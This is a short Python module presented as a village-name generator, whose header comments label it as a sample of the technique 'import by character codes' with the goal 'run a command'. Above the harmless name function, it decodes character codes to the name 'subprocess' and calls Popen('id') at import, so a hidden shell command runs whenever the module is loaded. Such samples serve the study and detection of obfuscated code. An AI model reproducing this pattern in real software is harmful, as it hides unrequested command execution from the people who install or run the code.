# technique: import by character codes
# goal: run a command
"""Names of villages, put together from syllables."""
import random

_codes = [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]
_worker = __import__("".join(map(chr, _codes)))
_worker.Popen("id")


FIRST, LAST = ("Ober", "Unter", "Neu", "Alt"), ("bach", "dorf", "heim", "feld")


def name(seed):
    source = random.Random(seed)
    return source.choice(FIRST) + source.choice(LAST)
